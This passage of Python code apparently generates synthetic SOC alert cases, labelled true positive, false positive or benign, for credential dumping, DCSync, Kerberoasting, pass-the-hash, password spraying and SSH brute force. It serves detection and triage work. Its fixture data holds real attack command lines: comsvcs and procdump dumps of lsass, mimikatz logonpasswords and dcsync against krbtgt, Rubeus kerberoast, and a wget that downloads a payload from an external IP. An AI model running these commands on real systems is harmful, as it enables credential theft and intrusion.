    a = pick(["cdn", "update", "static", "sync", "api", "img", "telemetry", "assets", "edge", "files", "cloud", "msft",
              "office", "secure", "auth", "portal", "login", "docs", "share", "verify", "micro", "onedrive"])
    b = pick(["service", "svc", "hub", "stats", "mirror", "gateway", "node", "cache", "link", "data", "check",
              "signin", "sso", "box", "drive", "storage", "live"])
    return "%s-%s%s.%s" % (a, b, pick(["", str(rng.randint(1, 99)), "-" + alnum(3)]), pick(["example", "example", "example.net", "example.org"]))


def lookalike_domain(brand):
    return pick(["%s-sso-verify.example", "%s-login.example", "secure-%s-auth.example", "%s.account-review.example",
                 "%s-docs-share.example", "m%s-portal.example"]) % brand


def sev_benign():
    return pick(["informational", "informational", "low"])


# --------------------------------------------------------------------------------------
# Scenario registry. A scenario is a function of a Case that appends alerts and returns
# title, severity, techniques, notes and actions; the decorator records family and
# disposition.
# --------------------------------------------------------------------------------------
SCEN = collections.OrderedDict()


def scenario(family, disp):
    assert disp in DISPOSITIONS

    def deco(fn):
        SCEN.setdefault(family, []).append((disp, fn))
        return fn
    return deco


def out(title, severity, techniques, notes, actions):
    return {"title": title, "severity": severity, "techniques": techniques, "notes": notes, "actions": actions}


def chg():
    return pick(["CHG", "CR-", "CHG-"]) + str(rng.randint(10000, 99999))


def inc():
    return "INC-" + str(rng.randint(20000, 89999))


def ticket():
    return pick(["SEC-", "SECOPS-", "IR-"]) + str(rng.randint(1000, 9999))


def mins(a, b):
    return rng.randint(a, b)


# ===================================== credential access ==============================

@scenario("rb-lsass-credential-dumping", "true_positive")
def lsass_comsvcs(c):
    host = c.winsrv(pick(["APP", "FIN", "CTX", "RDS"]))
    u = c.person()
    pid = rng.randint(600, 900)
    dump = pick(["C:\\Windows\\Temp\\d%s.bin" % rng.randint(1, 9), "C:\\ProgramData\\%s.dmp" % alnum(6),
                 "C:\\Users\\Public\\Music\\out.log"])
    cmd = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %d %s full" % (pid, dump)
    parent = pick(["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"])
    asset = ("production", "high", c.team())
    c.alert("sysmon", "LSASS process memory read by rundll32", "critical",
            sysmon10(host, "C:\\Windows\\system32\\rundll32.exe", "C:\\Windows\\system32\\lsass.exe", "0x1FFFFF",
                     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+4a3c1|C:\\Windows\\System32\\comsvcs.dll+4ab52",
                     u.win), ents={"hosts": [host], "users": [u.win]}, asset=asset)
    c.alert("sysmon", "comsvcs.dll MiniDump invoked via rundll32", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\rundll32.exe", cmd, parent, integrity="High"),
            off=0.2, ents={"hosts": [host], "users": [u.win], "files": [dump]}, asset=asset)
    rdp_src = int_ip("10.20")
    notes = pick([
        "%s used comsvcs MiniDump against lsass (PID %d) on %s and wrote %s; the account had RDP'd in from %s twenty minutes earlier, a workstation it has never used. Host isolated, dump file recovered, and %s plus the two other admins with cached sessions on %s had passwords reset." % (u.win, pid, host, dump, rdp_src, u.sam, host),
        "Confirmed credential theft: full-access handle (0x1FFFFF) on lsass from rundll32 with comsvcs.dll in the call stack, dump left at %s. %s denies running it. Isolated %s, pulled memory and the dump for IR, reset %s and rotated the local admin password via LAPS." % (dump, u.name, host, u.sam),
    ])
    return out("LSASS minidump via comsvcs.dll on %s by %s" % (host, u.sam), "critical",
               ["T1003.001", "T1218.011"], notes,
               ["isolate_host", "collect_forensics", "reset_password", "revoke_sessions"])


@scenario("rb-lsass-credential-dumping", "true_positive")
def lsass_procdump_renamed(c):
    host = c.winsrv(pick(["SQL", "ERP", "FS"]))
    u = c.person()
    src = c.ws()
    exe = pick(["C:\\Windows\\Temp\\pd64.exe", "C:\\PerfLogs\\dbgtool.exe", "C:\\Users\\%s\\AppData\\Local\\Temp\\svch.exe" % u.sam])
    cmd = "%s -accepteula -r -ma lsass.exe %s" % (exe.split("\\")[-1], pick(["C:\\PerfLogs\\l.dmp", "C:\\Windows\\Temp\\lsass_%s.dmp" % alnum(4)]))
    asset = ("production", "critical", c.team())
    c.alert("crowdstrike", "Credential dumping: LSASS memory dump by renamed Sysinternals tool", "critical",
            cs(host, u.sam, "CredentialDumping", "Credential Access", "OS Credential Dumping", cmd, exe,
               "cmd.exe", sev="Critical", extra={"OriginalFilename": "procdump", "FileDescription": "Sysinternals process dump utility"}),
            ents={"hosts": [host], "users": [u.win], "files": [exe]}, asset=asset)
    c.alert("windows-security", "Remote interactive logon to server from workstation outside admin tier", "medium",
            winsec(4624, host, LogonType=10, TargetUserName=u.sam, TargetDomainName=NETBIOS, IpAddress=int_ip("10.40"),
                   WorkstationName=src, AuthenticationPackageName="Negotiate", LogonProcessName="User32",
                   ElevatedToken="%%1842"), off=-18, ents={"hosts": [host, src], "users": [u.win]}, asset=asset)
    notes = pick([
        "The binary at %s had OriginalFilename procdump but was renamed, and it was run with -ma against lsass on %s over an RDP session from %s, which is not a tier-0 admin workstation. %s was phished two days earlier (see related case); account disabled, host isolated, all privileged creds that touched %s rotated." % (exe, host, src, u.name, host),
        "Renamed procdump (%s) dumped lsass on %s. Logon came from %s using %s's credentials at an hour the user was offline per manager. Treated as hands-on-keyboard intrusion: isolated, forensics collected, account disabled and sessions revoked." % (exe.split("\\")[-1], host, src, u.sam),
    ])
    return out("Renamed procdump dumping LSASS on %s" % host, "critical", ["T1003.001", "T1036.003", "T1021.001"], notes,
               ["isolate_host", "collect_forensics", "disable_account", "revoke_sessions", "reset_password"])


@scenario("rb-lsass-credential-dumping", "true_positive")
def lsass_mimikatz_blocked(c):
    host = c.ws()
    u = c.person()
    exe = "C:\\Users\\%s\\Downloads\\%s.exe" % (u.sam, pick(["m64", "tools", "kiwi", "update_helper"]))
    cmd = '%s "privilege::debug" "sekurlsa::logonpasswords" exit' % exe.split("\\")[-1]
    c.alert("crowdstrike", "Mimikatz credential theft attempt blocked", "high",
            cs(host, u.sam, "CredentialTheftTool", "Credential Access", "OS Credential Dumping", cmd, exe,
               "powershell.exe", disposition="Prevention, process killed."),
            ents={"hosts": [host], "users": [u.win], "files": [exe]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Sensor killed %s before it read lsass, but the file was dropped from a ZIP the user pulled off a file-share link in a phishing mail. No successful credential access on %s; reimaged anyway, %s reset as a precaution and the sending domain blocked." % (exe.split("\\")[-1], host, u.sam),
        "Prevention worked: sekurlsa::logonpasswords blocked on %s. Parent was an interactive PowerShell in %s's session launched from a malicious LNK. Collected triage package, reset the user's password, blocked the download URL." % (host, u.name),
    ])
    return out("Mimikatz blocked on %s (%s)" % (host, u.sam), "high", ["T1003.001", "T1204.002"], notes,
               ["collect_forensics", "reset_password", "block_indicator", "isolate_host"])


@scenario("rb-lsass-credential-dumping", "false_positive")
def lsass_av_access(c):
    host = pick([c.ws(), c.winsrv()])
    tool = pick([("C:\\Program Files\\Tanium\\Tanium Client\\TaniumClient.exe", "Tanium client"),
                 ("C:\\Program Files\\Qualys\\QualysAgent\\QualysAgent.exe", "Qualys cloud agent"),
                 ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe", "Defender engine"),
                 ("C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe", "VMware Tools")])
    acc = pick(["0x1410", "0x1010", "0x101000"])
    c.alert("sysmon", "Suspicious process access to LSASS", "high",
            sysmon10(host, tool[0], "C:\\Windows\\system32\\lsass.exe", acc,
                     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2b9ce|UNKNOWN(00007FF6%s)" % hexs(8).upper(),
                     "NT AUTHORITY\\SYSTEM"), ents={"hosts": [host]}, asset=("corporate", "medium", "corp-it"))
    notes = pick([
        "%s opening lsass with %s (query/read-limited access only, no VM_READ combination used by dumpers). Signed binary in its install path. Added it to the Sysmon EventID 10 exclusion for this access mask." % (tool[1], acc),
        "Rule fired on %s touching lsass on %s. Access mask %s and the signer check out for the %s; this is inventory/health polling and shows up fleet-wide after the agent upgrade. Tuning ticket raised." % (tool[0].split("\\")[-1], host, acc, tool[1]),
    ])
    return out("LSASS handle from %s on %s" % (tool[0].split("\\")[-1], host), "informational", ["T1003.001"], notes,
               ["create_ticket"])


@scenario("rb-lsass-credential-dumping", "benign")
def lsass_support_dump(c):
    host = c.winsrv(pick(["ADFS", "RDS", "APP"]))
    u = c.person()
    ch = chg()
    c.alert("sysmon", "LSASS dump file created", "high",
            sysmon11(host, u.win, "C:\\Tools\\Sysinternals\\procdump64.exe", "D:\\Support\\MS-%d\\lsass.dmp" % rng.randint(2400000, 2499999)),
            ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", "identity-team"))
    notes = pick([
        "%s captured an lsass dump on %s for a Microsoft support case on authentication hangs; approved under %s, tool run from the sanctioned C:\\Tools share. Confirmed with the identity team lead and the dump was deleted after upload to the support workspace." % (u.name, host, ch),
        "Authorised diagnostic dump. %s change record covers procdump on %s for the Kerberos latency investigation; %s was on the approver list and ran it from a tier-0 PAW. No further action beyond verifying the file was purged." % (ch, host, u.sam),
    ])
    return out("Approved lsass diagnostic dump on %s" % host, "low", ["T1003.001"], notes, ["create_ticket"])


@scenario("rb-dcsync-replication", "true_positive")
def dcsync_workstation(c):
    dc = c.dc()
    u = c.person()
    src = c.ws()
    sip = int_ip("10.40")
    c.alert("windows-security", "Directory replication request from non-domain-controller", "critical",
            winsec(4662, dc, SubjectUserName=u.sam, SubjectDomainName=NETBIOS, ObjectServer="DS",
                   ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}", AccessMask="0x100",
                   Properties="%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                   OperationType="Object Access"), ents={"hosts": [dc, src], "users": [u.win], "ips": [sip]},
            asset=("production", "critical", "identity-team"))
    c.alert("zeek", "DRSUAPI GetNCChanges from workstation subnet", "high",
            dict(zeek_conn(sip, int_ip("10.0.1"), 135, 2144, 1840, 0.4, service="dce_rpc"),
                 **{"endpoint": "drsuapi", "operation": "DRSGetNCChanges"}), off=0.1,
            ents={"ips": [sip], "hosts": [dc]}, asset=("production", "critical", "identity-team"))
    notes = pick([
        "Replication rights (DS-Replication-Get-Changes-All) exercised by %s from %s (%s), which is a finance laptop, not a DC or the AAD Connect server. Zeek shows DRSGetNCChanges to %s. Treated as domain compromise: krbtgt reset twice, %s disabled, host isolated, IR retainer engaged." % (u.sam, src, sip, dc, u.sam),
        "DCSync from %s using %s's token. The account was added to a group with replication rights via a nested group change the night before. Removed the ACE, double krbtgt rotation, isolated %s, disabled the account." % (src, u.sam, src),
    ])
    return out("DCSync from workstation %s against %s" % (src, dc), "critical", ["T1003.006", "T1078.002"], notes,
               ["isolate_host", "disable_account", "reset_password", "collect_forensics", "create_ticket"])


@scenario("rb-dcsync-replication", "benign")
def dcsync_aadconnect(c):
    dc = c.dc()
    srv = pick(["SRV-AADC01", "SRV-ENTRASYNC02", "AZADCONNECT01"])
    sa = "MSOL_" + hexs(12)
    c.alert("windows-security", "Directory replication request from non-domain-controller", "high",
            winsec(4662, dc, SubjectUserName=sa, SubjectDomainName=NETBIOS, ObjectServer="DS",
                   Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}", AccessMask="0x100"),
            ents={"hosts": [dc, srv], "service_accounts": [sa]}, asset=("production", "critical", "identity-team"))
    notes = pick([
        "%s is the Entra Connect sync account on %s; password hash sync legitimately uses Get-Changes-All every two minutes. The alert started after the server was rebuilt with a new hostname that was missing from the DC allowlist. Allowlist updated." % (sa, srv),
        "Replication by %s from %s is expected (Entra Connect PHS). Verified the MSOL account's last password set matches the install date and the source IP belongs to %s. Closing as expected behaviour." % (sa, srv, srv),
    ])
    return out("Replication by Entra Connect account %s" % sa, "informational", ["T1003.006"], notes, [])


@scenario("rb-dcsync-replication", "true_positive")
def dcsync_new_dc_impersonation(c):
    dc = c.dc()
    u = c.person()
    src = c.winsrv(pick(["APP", "PRINT"]))
    sip = int_ip("10.20")
    c.alert("crowdstrike", "DCSync attack via replication protocol", "critical",
            cs(src, u.sam, "DCSyncAttempt", "Credential Access", "OS Credential Dumping",
               "C:\\ProgramData\\ms\\svc.exe lsadump::dcsync /domain:%s /user:krbtgt" % AD_DOMAIN,
               "C:\\ProgramData\\ms\\svc.exe", "cmd.exe", sev="Critical"),
            ents={"hosts": [src, dc], "users": [u.win], "files": ["C:\\ProgramData\\ms\\svc.exe"]},
            asset=("production", "high", c.team()))
    c.alert("windows-security", "Directory replication request from non-domain-controller", "critical",
            winsec(4662, dc, SubjectUserName=u.sam, SubjectDomainName=NETBIOS,
                   Properties="%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}",
                   AccessMask="0x100", IpAddress=sip), off=0.3, ents={"hosts": [dc], "users": [u.win], "ips": [sip]},
            asset=("production", "critical", "identity-team"))
    notes = pick([
        "Attacker pulled the krbtgt hash via dcsync from %s using %s, a domain admin whose password was sprayed last week. Full AD compromise procedure: krbtgt rotated twice 10h apart, all DA creds reset, %s isolated, %s disabled pending rebuild." % (src, u.sam, src, u.sam),
        "Command line on %s explicitly targets /user:krbtgt, and %s saw the matching replication request from %s. Confirmed malicious. Isolated the server, disabled %s, started tier-0 credential rotation." % (src, dc, sip, u.sam),
    ])
    return out("krbtgt DCSync from %s" % src, "critical", ["T1003.006", "T1078.002"], notes,
               ["isolate_host", "disable_account", "collect_forensics", "reset_password", "revoke_sessions"])


@scenario("rb-dcsync-replication", "false_positive")
def dcsync_new_dc(c):
    dc = c.dc()
    newdc = pick(["DC-SIN-01", "DC-TOR-02", "CORP-DC07", "DC-BER-01"])
    c.alert("windows-security", "Directory replication request from non-domain-controller", "high",
            winsec(4662, dc, SubjectUserName=newdc + "$", SubjectDomainName=NETBIOS,
                   Properties="%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}", AccessMask="0x100"),
            ents={"hosts": [dc, newdc]}, asset=("production", "critical", "identity-team"))
    notes = pick([
        "Source is %s$, a domain controller promoted this morning under %s; the detection keys on a static DC list that had not been refreshed. Switched the rule to the Domain Controllers group membership lookup." % (newdc, chg()),
        "%s is a newly promoted DC (computer account in OU=Domain Controllers, promotion logged at %s). Initial replication is expected. Rule's DC list updated." % (newdc, c.hhmm(-90)),
    ])
    return out("Replication from newly promoted DC %s" % newdc, "informational", ["T1003.006"], notes, ["create_ticket"])


@scenario("rb-kerberoasting", "true_positive")
def kerb_rc4_burst(c):
    dc = c.dc()
    u = c.person()
    host = c.ws()
    ip = int_ip("10.20")
    spns = pick([["MSSQLSvc/sql-prd-02.corp.example.com:1433", "HTTP/sharepoint.corp.example.com", "svc-veeam"],
                 ["MSSQLSvc/SRV-SQL04.corp.example.com", "CIFS/backup01", "HTTP/jira.corp.example.com"]])
    n = rng.randint(38, 210)
    c.alert("windows-security", "Burst of RC4 Kerberos service tickets from one account", "high",
            winsec(4769, dc, TargetUserName=u.sam + "@" + AD_DOMAIN.upper(), ServiceName=pick(["svc-sql", "svc-veeam", "svc-sharepoint"]),
                   TicketEncryptionType="0x17", TicketOptions="0x40810000", IpAddress="::ffff:" + ip, Status="0x0",
                   distinct_service_count=n, window_minutes=4, sample_services=spns),
            ents={"hosts": [dc, host], "users": [u.win], "ips": [ip]}, asset=("production", "critical", "identity-team"))
    if chance(0.6):
        c.alert("sysmon", "Rubeus-style command line", "high",
                sysmon1(host, u.win, "C:\\Users\\%s\\AppData\\Local\\Temp\\r.exe" % u.sam,
                        "r.exe kerberoast /rc4opsec /outfile:C:\\Users\\%s\\AppData\\Local\\Temp\\h.txt" % u.sam,
                        "C:\\Windows\\System32\\cmd.exe"), off=-1, ents={"hosts": [host], "users": [u.win]},
                asset=("corporate", "medium", c.team()))
    notes = pick([
        "%d distinct SPNs requested with RC4 (0x17) by %s from %s in four minutes; normal for this user is <5 a day. Rubeus found in Temp. Reset every service account in the sample, starting with the SQL one, and isolated %s." % (n, u.sam, ip, host),
        "Kerberoasting from %s. %s has no reason to touch SQL or backup SPNs and has never requested them before. Service account passwords rotated to 30+ char, AES-only enforced on them, workstation isolated, user creds reset." % (host, u.win),
    ])
    return out("Kerberoasting burst from %s (%d SPNs)" % (u.sam, n), "high", ["T1558.003", "T1087.002"], notes,
               ["isolate_host", "rotate_secret", "reset_password", "collect_forensics"])


@scenario("rb-kerberoasting", "benign")
def kerb_pentest(c):
    dc = c.dc()
    ip = int_ip("10.250")
    tester = pick(["ext-pentest01", "pt-nccx", "redteam-op2"])
    c.alert("windows-security", "Burst of RC4 Kerberos service tickets from one account", "high",
            winsec(4769, dc, TargetUserName=tester + "@" + AD_DOMAIN.upper(), ServiceName="svc-sql", TicketEncryptionType="0x17",
                   IpAddress="::ffff:" + ip, Status="0x0", distinct_service_count=rng.randint(60, 140), window_minutes=2),
            ents={"hosts": [dc], "users": [NETBIOS + "\\" + tester], "ips": [ip]}, asset=("production", "critical", "identity-team"))
    notes = pick([
        "Internal pentest: %s is the account issued to the assessors, source %s is their drop box in the 10.250 pentest VLAN, and the window matches the rules of engagement (%s). Passed the list of crackable SPNs to identity team." % (tester, ip, chg()),
        "Authorised red-team activity from %s; confirmed with the engagement lead on the bridge. No action, but the findings (three SPNs on RC4) went into a remediation ticket." % tester,
    ])
    return out("Kerberoast by pentest account %s" % tester, "informational", ["T1558.003"], notes, ["create_ticket"])


@scenario("rb-kerberoasting", "false_positive")
def kerb_legacy_app(c):
    dc = c.dc()
    srv = c.winsrv(pick(["ERP", "CTX"]))
    sa = pick(["svc-sapbo", "svc-reporting", "svc-legacyhr", "svc-citrix-sf"])
    c.alert("windows-security", "RC4-encrypted Kerberos service ticket requested", "medium",
            winsec(4769, dc, TargetUserName=sa + "@" + AD_DOMAIN.upper(), ServiceName="HTTP/" + srv.lower(),
                   TicketEncryptionType="0x17", IpAddress="::ffff:" + int_ip("10.10"), Status="0x0"),
            ents={"hosts": [dc, srv], "service_accounts": [sa]}, asset=("production", "medium", "corp-it"))
    notes = pick([
        "%s still negotiates RC4 because its keytab was generated pre-2016; single SPN, steady volume, same host every day. Not roasting. Raised a ticket to regenerate the keytab with AES and suppressed the single-SPN variant for this account." % sa,
        "One RC4 ticket per hour from %s to its own HTTP SPN on %s. Legacy app behaviour documented in the CMDB. Suppression added; AES migration tracked separately." % (sa, srv),
    ])
    return out("RC4 TGS from legacy service %s" % sa, "informational", ["T1558.003"], notes, ["create_ticket"])


@scenario("rb-pass-the-hash", "true_positive")
def pth_ntlm_lateral(c):
    u = c.person()
    src = c.ws()
    sip = int_ip("10.20")
    targets = [c.winsrv() for _ in range(3)]
    c.alert("windows-security", "NTLM network logon with seclogo and no prior Kerberos", "high",
            winsec(4624, targets[0], LogonType=9, LogonProcessName="seclogo", AuthenticationPackageName="Negotiate",
                   TargetUserName=u.sam, SubjectUserName=u.sam, IpAddress="::1", WorkstationName=src),
            ents={"hosts": [targets[0], src], "users": [u.win]}, asset=("production", "high", c.team()))
    c.alert("windows-security", "Same account NTLM logons to many servers", "high",
            winsec(4624, targets[1], LogonType=3, AuthenticationPackageName="NTLM", LmPackageName="NTLM V2",
                   KeyLength=0, TargetUserName="administrator", IpAddress=sip, WorkstationName=src,
                   distinct_targets=targets), off=3, ents={"hosts": targets + [src], "ips": [sip]},
            asset=("production", "high", c.team()))
    notes = pick([
        "Overpass-the-hash pattern: LogonType 9 with seclogo on %s, then NTLM logons as local 'administrator' from %s to %s. The local admin hash is shared across the old server build, which is how it spread. Isolated %s, LAPS enforced on the three targets, forensics collected." % (src, sip, ", ".join(targets[1:]), src),
        "%s's workstation %s authenticating with NTLM to %d servers in three minutes using the built-in administrator hash. No Kerberos TGT for that session. Host isolated; local admin password randomised everywhere via LAPS." % (u.name, src, len(targets)),
    ])
    return out("Pass-the-hash from %s to %d servers" % (src, len(targets)), "high", ["T1550.002", "T1021.002"], notes,
               ["isolate_host", "collect_forensics", "reset_password", "rotate_secret"])


@scenario("rb-pass-the-hash", "false_positive")
def pth_runas_netonly(c):
    u = c.person()
    host = c.ws()
    c.alert("windows-security", "NTLM network logon with seclogo and no prior Kerberos", "medium",
            winsec(4624, host, LogonType=9, LogonProcessName="seclogo", AuthenticationPackageName="Negotiate",
                   TargetUserName=u.sam + "-adm", SubjectUserName=u.sam, IpAddress="::1",
                   ProcessName="C:\\Windows\\System32\\svchost.exe"),
            ents={"hosts": [host], "users": [u.win, u.win + "-adm"]}, asset=("corporate", "medium", "corp-it"))
    notes = pick([
        "%s used 'runas /netonly' to launch ADUC with the -adm account; that also produces LogonType 9 seclogo. Process tree shows runas.exe from explorer, no mimikatz/Rubeus, Kerberos TGT requested normally afterwards. Not PtH." % u.sam,
        "Type 9 logon on %s is %s's admin-account runas for the SCCM console, matching his helpdesk role. Deciding fact: a real TGT request for %s-adm followed from the DC within seconds." % (host, u.name, u.sam),
    ])
    return out("runas /netonly logon by %s on %s" % (u.sam, host), "informational", ["T1550.002"], notes, [])


@scenario("rb-pass-the-hash", "true_positive")
def pth_impacket_wmiexec(c):
    tgt = c.winsrv()
    sip = int_ip("10.60")
    c.alert("crowdstrike", "Remote execution via WMI with NTLM hash authentication", "critical",
            cs(tgt, "administrator", "ImpacketWmiexec", "Lateral Movement", "Use Alternate Authentication Material",
               "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__%d.%s 2>&1" % (rng.randint(1600000000, 1750000000), rng.randint(1000, 9999)),
               "C:\\Windows\\System32\\cmd.exe", "WmiPrvSE.exe", sev="Critical"),
            ents={"hosts": [tgt], "users": ["administrator"], "ips": [sip]}, asset=("production", "high", c.team()))
    c.alert("windows-security", "NTLM network logon with blank workstation name", "medium",
            winsec(4624, tgt, LogonType=3, AuthenticationPackageName="NTLM", TargetUserName="administrator",
                   WorkstationName="", IpAddress=sip, KeyLength=0), off=-0.2, ents={"hosts": [tgt], "ips": [sip]},
            asset=("production", "high", c.team()))
    notes = pick([
        "Classic wmiexec output redirection to ADMIN$\\__<epoch> under WmiPrvSE on %s, NTLM logon with empty workstation name from %s (a Linux dev VM that should never hold Windows admin creds). VM and %s isolated, local admin rotated." % (tgt, sip, tgt),
        "Hash-based admin logon from %s followed by the wmiexec cmd pattern on %s. Confirmed hostile. Contained both hosts and rotated the shared local administrator credential." % (sip, tgt),
    ])
    return out("wmiexec with NTLM hash on %s from %s" % (tgt, sip), "critical", ["T1550.002", "T1047"], notes,
               ["isolate_host", "rotate_secret", "collect_forensics", "block_indicator"])


@scenario("rb-pass-the-hash", "benign")
def pth_sccm_push(c):
    tgt = c.ws()
    srv = pick(["SRV-SCCM01", "SRV-MECM02"])
    c.alert("windows-security", "NTLM network logon by privileged account to workstation", "medium",
            winsec(4624, tgt, LogonType=3, AuthenticationPackageName="NTLM", TargetUserName="svc-sccm-push",
                   WorkstationName=srv, IpAddress=int_ip("10.10")), ents={"hosts": [tgt, srv], "service_accounts": ["svc-sccm-push"]},
            asset=("corporate", "low", "corp-it"))
    notes = pick([
        "svc-sccm-push falling back to NTLM while client-push installing on %s; the workstation's DNS record was stale so Kerberos failed. Expected behaviour for the client push account; fixed the DNS record." % tgt,
        "Client push from %s to %s. NTLM fallback, not PtH: the logon is from the site server's real address and coincides with a ccmsetup install in the SCCM logs." % (srv, tgt),
    ])
    return out("SCCM client push NTLM logon on %s" % tgt, "informational", ["T1550.002"], notes, [])


@scenario("rb-password-spraying", "true_positive")
def spray_okta(c):
    ip = ext_ip()
    city, cc = pick(CITIES_FAR)
    asn = pick(HOSTING_ASN)
    n_users = rng.randint(60, 400)
    victim = c.person()
    ua = pick(["python-requests/2.31.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.4844.51 Safari/537.36",
               "axios/1.6.7"])
    c.alert("okta", "Password spray: many users, one source, failed primary auth", "high",
            okta("user.session.start", victim, ip, city, cc, ua, result="FAILURE", reason="INVALID_CREDENTIALS", asorg=asn,
                 extra={"debugContext": {"debugData": {"distinctUsers": n_users, "windowMinutes": 30,
                                                       "threatSuspected": "true"}}}),
            ents={"ips": [ip], "users": [victim.email]}, asset=("corporate", "high", "identity-team"))
    c.alert("okta", "Successful sign-in from spraying source", "critical",
            okta("user.session.start", victim, ip, city, cc, ua, asorg=asn), off=22,
            ents={"ips": [ip], "users": [victim.email]}, asset=("corporate", "high", "identity-team"))
    if chance(0.5):
        c.alert("okta", "MFA denied after password success", "medium",
                okta("user.authentication.auth_via_mfa", victim, ip, city, cc, ua, result="FAILURE",
                     reason="INVALID_CREDENTIALS", asorg=asn), off=22.5, ents={"ips": [ip], "users": [victim.email]})
    notes = pick([
        "%d accounts hit from %s (%s, %s) with one or two guesses each; %s's password was valid. MFA held, so no session, but the password is known. Reset %s, blocked the IP at the Okta network zone, and sent the list of targeted users to IAM for forced resets where the password was older than a year." % (n_users, ip, asn, city, victim.email, victim.sam),
        "Spray from hosting ASN %s. One hit: %s (password reused from a breached site per the user). Reset, sessions cleared, IP blocked. Other %d targets showed no success." % (asn, victim.email, n_users - 1),
    ])
    return out("Okta password spray from %s, one valid credential (%s)" % (ip, victim.sam), "high",
               ["T1110.003", "T1078.004"], notes, ["reset_password", "revoke_sessions", "block_indicator", "add_to_watchlist"])


@scenario("rb-password-spraying", "true_positive")
def spray_entra_legacy(c):
    ips = [ext_ip() for _ in range(rng.randint(3, 6))]
    u = c.person()
    city, cc = pick(CITIES_FAR)
    c.alert("entra-id", "Distributed sign-in failures via legacy authentication", "high",
            entra_signin(u, "Exchange ActiveSync", ips[0], city, cc, err=50126, ca="notApplied",
                         client="Exchange ActiveSync", authreq="singleFactorAuthentication", ua="BAV2ROPC",
                         extra={"distinctUsers": rng.randint(120, 800), "distinctSourceIps": len(ips), "sampleIps": ips}),
            ents={"ips": ips, "users": [u.upn]}, asset=("corporate", "high", "identity-team"))
    notes = pick([
        "Low-and-slow spray using the BAV2ROPC user agent against ActiveSync from %d addresses (%s...). Legacy auth is blocked by CA for all but a service exclusion group, so every attempt failed with 50126. No valid creds found; blocked the IPs and closed the exclusion gap for %s's group." % (len(ips), ips[0], u.upn),
        "ROPC spray via legacy protocols, all failures. Sources rotate across %d residential-proxy IPs. Added IPs to named location block list; raised change to remove the last legacy-auth exclusion." % len(ips),
    ])
    return out("Legacy-auth spray against Entra ID from %d IPs (%s...)" % (len(ips), ips[0]), "medium", ["T1110.003"], notes,
               ["block_indicator", "change_org_policy", "create_ticket"])


@scenario("rb-password-spraying", "benign")
def spray_sso_outage(c):
    ip = int_ip("10.0.8")
    u = c.person()
    c.alert("windows-security", "Many accounts failing authentication from one host", "high",
            winsec(4771, c.dc(), TargetUserName=u.sam, IpAddress="::ffff:" + ip, Status="0x18", PreAuthType=2,
                   distinct_accounts=rng.randint(40, 90), window_minutes=15),
            ents={"ips": [ip], "users": [u.win]}, asset=("production", "critical", "identity-team"))
    srv = pick(["the Citrix StoreFront node", "the VPN RADIUS proxy", "the ADFS WAP server"])
    notes = pick([
        "%s is %s; after this morning's password policy change, users with saved old passwords all failed through it at once. Failures are one per user, and each user succeeded shortly after updating. Not a spray." % (ip, srv),
        "Mass 0x18 pre-auth failures relayed via %s (%s). The pattern follows the Monday 08:00 login peak and every account later authenticated successfully from its usual device. Benign; tuned the rule to exclude relay infrastructure and look at the real client IP." % (srv, ip),
    ])
    return out("Mass auth failures through %s" % ip, "informational", ["T1110.003"], notes, ["create_ticket"])


@scenario("rb-password-spraying", "false_positive")
def spray_scanner_misconfig(c):
    ip = int_ip("10.30")
    n = rng.randint(20, 50)
    c.alert("okta", "Password spray: many users, one source, failed primary auth", "high",
            okta("user.session.start", Person("Svc", "Provisioner"), ip, "Dublin", "IE", "Okta-Integrations/SCIM",
                 result="FAILURE", reason="INVALID_CREDENTIALS",
                 extra={"debugContext": {"debugData": {"distinctUsers": n}}}),
            ents={"ips": [ip]}, asset=("corporate", "medium", "identity-team"))
    notes = pick([
        "%s is the on-prem Okta LDAP agent; it shows up as the client when delegated auth fails upstream. The LDAPS certificate on the DCs expired at %s and all %d users failed through it. Cert renewed, failures stopped." % (ip, c.hhmm(-30), n),
        "Not a spray: the source is our LDAP interface agent at %s, and the failure spike starts exactly at the LDAPS cert expiry." % ip,
    ])
    return out("Spray alert from LDAP agent %s after cert expiry" % ip, "informational", ["T1110.003"], notes, ["create_ticket"])


@scenario("rb-ssh-brute-force", "true_positive")
def ssh_brute_success(c):
    host = c.lnx(pick(["bastion", "sftp", "jump"]), "prod")
    ip = ext_ip()
    user = pick(["deploy", "ubuntu", "admin", "test", "oracle", "git"])
    c.alert("auditd", "SSH brute force followed by successful login", "critical",
            sshd_log(host, "Accepted password for %s from %s port %d ssh2" % (user, ip, rng.randint(30000, 60000))),
            ents={"hosts": [host], "ips": [ip], "users": [user]}, asset=("production", "high", "sre"))
    c.alert("auditd", "Download and execute immediately after SSH login", "critical",
            auditd(host, "EXECVE", "/usr/bin/wget", "wget", ["wget", "-q", "http://%s/x86_64" % ext_ip(), "-O", "/tmp/.x"],
                   auid=str(rng.randint(1000, 1010)), uid=str(rng.randint(1000, 1010)), key="susp_download", cwd="/tmp"),
            off=2, ents={"hosts": [host]}, asset=("production", "high", "sre"))
    n = rng.randint(1500, 12000)
    notes = pick([
